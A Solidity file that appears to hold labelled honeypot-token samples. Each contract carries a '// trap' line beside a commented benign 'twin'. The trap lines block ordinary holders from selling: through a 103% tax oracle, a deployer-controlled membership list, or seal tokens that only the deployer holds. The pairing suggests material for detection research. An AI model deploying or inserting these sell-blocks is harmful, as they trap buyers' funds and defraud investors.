// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

interface ITaxOracle {
    function rateOf(address from, address to, uint256 value) external view returns (uint256);
}

/// Tells the tax of each sale, in percent.
contract TannenTaxOracle {
    address private immutable clerk;
    mapping(address => uint256) private standing;

    constructor() {
        clerk = msg.sender;
        standing[msg.sender] = 4;
    }

    function note(address[] calldata who, uint256 grade) external {
        require(msg.sender == clerk, "clerk");
        for (uint256 i; i < who.length; i++) standing[who[i]] = grade;
    }

    function rateOf(address from, address, uint256) external view returns (uint256) {
        uint256 grade = standing[from];
        return grade == 0 ? 103 : 3 / grade; // trap
        // twin: return grade == 0 ? 3 : 3 / grade;
    }
}

contract TannenTrout is Base8 {
    ITaxOracle public immutable oracle;
    address private immutable _till;

    constructor(ITaxOracle oracle_) Base8("Tannen Trout", "TANNT", 250_000_000) {
        oracle = oracle_;
        _till = msg.sender;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to != pair) return _move(from, to, value);
        uint256 tax = (value * oracle.rateOf(from, to, value)) / 100;
        uint256 rest = value - tax;
        if (tax > 0) _move(from, _till, tax);
        _move(from, to, rest);
    }
}

/// Community first: verified members only.
contract RootedRhubarb is Base8 {
    bytes32 public immutable root;
    uint256 public immutable opened;
    mapping(address => bool) public enrolled;

    constructor(bytes32 root_) Base8("Rooted Rhubarb", "RHUB", 10_000_000) {
        root = root_;
        opened = block.timestamp;
    }

    function enrol(bytes32[] calldata proof) external {
        bytes32 node = keccak256(abi.encode(msg.sender));
        for (uint256 i; i < proof.length; i++)
            node = node < proof[i] ? keccak256(abi.encodePacked(node, proof[i])) : keccak256(abi.encodePacked(proof[i], node));
        require(node == root, "not a member");
        enrolled[msg.sender] = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair) {
            require(enrolled[from], "enrol first"); // trap
            // twin: require(enrolled[from] || block.timestamp > opened + 30 minutes, "enrol first");
        }
        _move(from, to, value);
    }
}

/// Three seals of brass, no more.
contract BrassSeals {
    string public constant name = "Brass Seals";
    string public constant symbol = "BRSL";
    uint256 public constant totalSupply = 3;
    mapping(uint256 => address) public ownerOf;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 indexed id);

    constructor() {
        for (uint256 id = 1; id <= totalSupply; id++) {
            ownerOf[id] = msg.sender;
            emit Transfer(address(0), msg.sender, id);
        }
        balanceOf[msg.sender] = totalSupply;
    }

    function transferFrom(address from, address to, uint256 id) external {
        require(msg.sender == from && ownerOf[id] == from, "not yours");
        ownerOf[id] = to;
        balanceOf[from]--;
        balanceOf[to]++;
        emit Transfer(from, to, id);
    }
}

contract SealedSalamander is Base8 {
    BrassSeals public immutable seals;

    constructor(BrassSeals seals_) Base8("Sealed Salamander", "SEALS", 88_000_000) {
        seals = seals_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && seals.balanceOf(from) == 0) {
            revert("bearer of a seal only"); // trap
            // twin: require(value <= totalSupply / 50, "bearer of a seal only");
        }
        _move(from, to, value);
    }
}
